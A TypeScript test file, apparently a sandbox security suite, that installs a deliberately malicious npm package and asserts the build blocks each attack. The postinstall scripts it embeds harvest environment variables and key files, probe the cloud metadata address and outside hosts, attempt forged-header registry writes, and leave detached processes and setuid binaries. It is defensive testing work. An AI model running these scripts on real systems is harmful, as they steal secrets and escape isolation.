import { expect } from 'vitest';
import { buildAgent } from '../../src/build/build.ts';
import { builderWith, fileOf, inLayer, PLANTED_TOKEN } from '../support/building.ts';
import { npmRegistry } from '../support/npm-registry.ts';
import { attack } from './attack.ts';

const numbered = (number: number, family: 'leak' | 'escape', name: string, defence: string) =>
  ({ number, family, name, answer: 'prevented', defence }) as const;

/** Builds an agent that depends on a package whose install script is this, and gives what the script wrote down. */
async function installed(script: string) {
  await using registry = await npmRegistry(
    {
      evil: {
        'package.json': JSON.stringify({ name: 'evil', version: '1.0.0', scripts: { postinstall: 'node install.js' } }),
        'install.js': script,
      },
    },
    PLANTED_TOKEN,
  );
  const { builder, said } = builderWith();
  const registries = [{ host: 'registry.npmjs.org', url: registry.url, token: 'NPM_TOKEN' }];
  const dependencies = { evil: '1.0.0' };
  const name = `agent-${process.pid}-${Math.random()}`;
  const layer = await buildAgent(builder, { command: 'npm install', lock: null, registries }, [
    fileOf('package.json', JSON.stringify({ private: true, description: name, dependencies })),
    fileOf('agent.mjs', '// TOP-SECRET-SOURCE'),
  ]);
  const wrote = await inLayer(builder, layer, 'cat node_modules/evil/wrote');
  return { wrote, said, asked: registry.asked };
}

const WRITE = (expression: string) =>
  `(async () => require('fs').writeFileSync(__dirname + '/wrote', JSON.stringify(${expression})))()`;

attack(
  numbered(
    400,
    'leak',
    'an install script reads the environment and every file it can',
    'a build holds no secret: the proxy adds it',
  ),
  async () => {
    const { wrote, asked } = await installed(
      WRITE(
        `{ env: process.env, files: require('child_process').execSync('cat /proc/[0-9]*/environ /huxley/registries/*.pem; find / -xdev -type f -newer /etc/hostname -not -path "/proc/*" 2>/dev/null | xargs grep -l "planted\\\\|TOP-SECRET" 2>/dev/null || true', { maxBuffer: 1e8 }).toString() }`,
      ),
    );
    expect(asked.length).toBeGreaterThan(0);
    expect(asked.every(({ authorization }) => authorization === `Bearer ${PLANTED_TOKEN}`)).toBe(true);
    expect(wrote).toContain('HTTPS_PROXY');
    expect(wrote).not.toContain(PLANTED_TOKEN);
    expect(wrote).not.toContain('TOP-SECRET');
    expect(wrote).not.toMatch(/PRIVATE KEY|API_KEY|GITHUB_TOKEN/);
    return `${asked.length} requests carried the token; ${wrote.length} characters of environment and files hold neither it nor a source`;
  },
);

attack(
  numbered(
    401,
    'escape',
    'an install script phones elsewhere: by name, by address, through the proxy',
    'no network but a proxy that knows a list of hosts',
  ),
  async () => {
    const { wrote, said } = await installed(`
const net = require('net');
const tried = {};
const ask = async (name, act) => { try { tried[name] = 'WORKED ' + (await act()); } catch (error) { tried[name] = String(error.cause?.code ?? error.code ?? error).slice(0, 80); } };
const dial = (port, host) => new Promise((done, fail) => net.connect({ port, host, timeout: 2000 }).on('connect', done).on('error', fail).on('timeout', () => fail('silent')));
const tunnel = (to) => new Promise((done, fail) => {
  const socket = net.connect(8787, '127.0.0.1', () => socket.write('CONNECT ' + to + ' HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n'));
  socket.on('data', (data) => / 200 /.test(String(data).split('\\n')[0]) ? done(to) : fail({ code: String(data).split('\\r')[0] }));
  socket.on('error', fail);
});
const plain = (url) => new Promise((done, fail) => require('http').get({ port: 8787, path: url }, ({ statusCode }) => (statusCode === 403 ? fail({ code: 403 }) : done(statusCode))).on('error', fail));
(async () => {
  await ask('address', () => dial(443, '1.1.1.1'));
  await ask('metadata', () => dial(80, '169.254.169.254'));
  await ask('name', () => dial(443, 'example.com'));
  await ask('fetch', async () => (await fetch('https://example.com/')).status);
  await ask('tunnel', () => tunnel('example.com:443'));
  await ask('port', () => tunnel('pypi.org:22'));
  await ask('lookalike', () => tunnel('registry.npmjs.org.example.com:443'));
  await ask('loopback', () => tunnel('127.0.0.1:2375'));
  await ask('plain', () => plain('http://example.com/'));
  require('fs').writeFileSync(__dirname + '/wrote', JSON.stringify(tried));
  process.exit();
})();`);
    expect(wrote).not.toContain('WORKED');
    expect(Object.keys(JSON.parse(wrote))).toHaveLength(9);
    expect(said.join('\n')).toMatch(/The build was refused: .*example\.com/);
    return wrote;
  },
);

attack(
  numbered(
    402,
    'leak',
    'an install script publishes, or asks the registry in its own name or for another host',
    'only GET and HEAD pass, to the host the tunnel was opened for, with our headers',
  ),
  async () => {
    const { wrote, asked } = await installed(`
const ask = async (path, options) => { const r = await fetch('https://registry.npmjs.org' + path, options).catch((error) => ({ status: String(error.cause?.code ?? error) })); return r.status; };
(async () => {
  const statuses = [
    await ask('/evil', { method: 'PUT', body: 'all I found' }),
    await ask('/-/npm/v1/security/audits', { method: 'POST', body: 'all I found' }),
    await ask('/evil', { headers: { authorization: 'Bearer mine', cookie: 'mine', host: 'example.com' } }),
  ];
  require('fs').writeFileSync(__dirname + '/wrote', JSON.stringify(statuses));
})();`);
    expect(wrote).toBe('[405,405,200]');
    expect(asked.every(({ method }) => method === 'GET')).toBe(true);
    expect(JSON.stringify(asked)).not.toMatch(/mine|all I found/);
    return `PUT and POST: 405; ${asked.length} requests came, none with a header of the script's`;
  },
);

attack(
  numbered(
    403,
    'escape',
    'a build leaves a process, a link out, a device, set-user-id bits',
    'processes end with it; layers are mounted read-only where nothing gains privileges',
  ),
  async () => {
    const { wrote, said } = await installed(`
const { execSync, spawn } = require('child_process');
spawn('sh', ['-c', 'sleep 1; echo later > ' + __dirname + '/later; sleep 600'], { detached: true, stdio: 'ignore' }).unref();
execSync('ln -s /etc/passwd out; ln -s / root; cp /bin/id id; chmod 6755 id; mknod dev c 1 3 || true; mkfifo pipe; chmod 0000 pipe', { cwd: __dirname, stdio: 'ignore' });
require('fs').writeFileSync(__dirname + '/wrote', execSync('id -u').toString());`);
    expect(said.some((line) => line.startsWith('building'))).toBe(true);
    expect(wrote).toBe('1000');
    return 'the layer was kept without what ran on; links and bits in it mean nothing to a container that mounts it';
  },
);
